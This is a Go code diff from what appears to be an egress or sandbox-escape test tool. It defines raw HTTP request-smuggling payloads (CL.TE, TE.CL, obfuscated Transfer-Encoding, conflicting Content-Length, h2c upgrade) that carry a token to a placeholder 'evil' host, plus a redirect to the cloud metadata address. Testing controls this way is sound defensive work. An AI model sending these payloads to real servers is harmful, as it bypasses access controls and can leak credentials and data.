@@ -7,6 +7,7 @@ import (
 	"fmt"
 	"io"
 	"net/http"
+	"strconv"
 	"strings"
 	"syscall"
 	"time"
@@ -33,7 +34,7 @@ func overHTTP() map[string]func(*attempt) {
 				fill := strings.NewReplacer("$T", a.token, "$A", host, "$E", plan.EvilCDN)
 				said := make([]string, len(parts))
 				for i, p := range parts {
-					said[i] = fill.Replace(p)
+					said[i] = lengths(fill.Replace(p))
 				}
 				a.converse(at.name, at.port, replies, said...)
 			}
@@ -41,10 +42,6 @@ func overHTTP() map[string]func(*attempt) {
 	}
 	first := "GET /first HTTP/1.1\r\nHost: $A\r\n\r\n"
 	evil := "GET /$T HTTP/1.1\r\nHost: $E\r\n\r\n"
-	body := func(head string, tail ...string) string {
-		inner := strings.Join(tail, "")
-		return fmt.Sprintf(head, len(inner)) + inner
-	}
 	return map[string]func(*attempt){
 		"http-host":      parts(1, evil),
 		"http-second":    parts(2, first, evil),
@@ -75,27 +72,26 @@ func overHTTP() map[string]func(*attempt) {
 		"http-h2c":      parts(2, "GET /no-upgrade HTTP/1.1\r\nHost: $A\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n", evil),
 		"http-prior":    parts(1, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", evil),
 		"http-tls":      parts(2, "OPTIONS * HTTP/1.1\r\nHost: $A\r\nConnection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n", evil),
-		"http-expect":   parts(2, "POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: 5\r\nExpect: 100-continue\r\n\r\n", "12345"+evil),
-		"smuggle-clte": parts(2, body("POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n",
-			"0\r\n\r\n", evil)),
+		"http-expect":   parts(1, "POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: 5\r\nExpect: 100-continue\r\n\r\n", "12345"+evil),
+		"smuggle-clte":  parts(2, "POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: $L\r\nTransfer-Encoding: chunked\r\n\r\n"+"0\r\n\r\n"+evil),
 		"smuggle-tecl": parts(2, "POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"+
-			"60\r\n"+fmt.Sprintf("%-96s", "GET /$T HTTP/1.1\r\nHost: $E\r\nX: ")+"\r\n0\r\n\r\n"),
+			"$C\r\nGET /$T HTTP/1.1\r\nHost: $E\r\nX: y\r\n0\r\n\r\n"),
 		"smuggle-tete": parts(2,
-			body("POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: %d\r\nTransfer-Encoding: xchunked\r\n\r\n", "0\r\n\r\n", evil)),
+			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: $L\r\nTransfer-Encoding: xchunked\r\n\r\n"+"0\r\n\r\n"+evil),
 		"smuggle-tespace": parts(2,
-			body("POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: %d\r\nTransfer-Encoding : chunked\r\n\r\n", "0\r\n\r\n", evil)),
+			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: $L\r\nTransfer-Encoding : chunked\r\n\r\n"+"0\r\n\r\n"+evil),
 		"smuggle-tetab": parts(2,
-			body("POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: %d\r\nTransfer-Encoding:\x0bchunked\r\n\r\n", "0\r\n\r\n", evil)),
+			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: $L\r\nTransfer-Encoding:\x0bchunked\r\n\r\n"+"0\r\n\r\n"+evil),
 		"smuggle-telist": parts(2,
-			body("POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: %d\r\nTransfer-Encoding: identity, chunked\r\n\r\n", "0\r\n\r\n", evil)),
+			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: $L\r\nTransfer-Encoding: identity, chunked\r\n\r\n"+"0\r\n\r\n"+evil),
 		"smuggle-tefold": parts(2,
-			body("POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: %d\r\nTransfer-Encoding:\r\n chunked\r\n\r\n", "0\r\n\r\n", evil)),
+			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: $L\r\nTransfer-Encoding:\r\n chunked\r\n\r\n"+"0\r\n\r\n"+evil),
 		"smuggle-clcl": parts(2,
-			body("POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: 0\r\nContent-Length: %d\r\n\r\n", evil)),
+			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: 0\r\nContent-Length: $L\r\n\r\n"+evil),
 		"smuggle-clplus": parts(2,
-			body("POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: +%d\r\n\r\n", evil)),
+			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: +$L\r\n\r\n"+evil),
 		"smuggle-cl0": parts(2,
-			body("POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: 0, %d\r\n\r\n", evil)),
+			"POST /first HTTP/1.1\r\nHost: $A\r\nContent-Length: 0, $L\r\n\r\n"+evil),
 		"smuggle-chunk": parts(2,
 			"POST /first HTTP/1.1\r\nHost: $A\r\nTransfer-Encoding: chunked\r\n\r\n0;x=\n\r\n"+evil+"0\r\n\r\n"+evil),
 		"smuggle-trailer": parts(2,
@@ -109,6 +105,16 @@ func overHTTP() map[string]func(*attempt) {
 			a.fetch("http://" + plan.Allowed + "/redirect?to=http://169.254.169.254/" + a.token)
 		},
 	}
+}
+
+// lengths fills in $L, the length of a request's body, and $C, that of its first chunk.
+func lengths(request string) string {
+	head, body, _ := strings.Cut(request, "\r\n\r\n")
+	if before, rest, ok := strings.Cut(body, "$C\r\n"); ok {
+		chunk, _, _ := strings.Cut(rest, "\r\n0\r\n\r\n")
+		body = fmt.Sprintf("%s%x\r\n%s", before, len(chunk), rest)
+	}
+	return strings.ReplaceAll(head, "$L", strconv.Itoa(len(body))) + "\r\n\r\n" + body
 }
 
 // converse says one part after the other, each when the last was answered, and
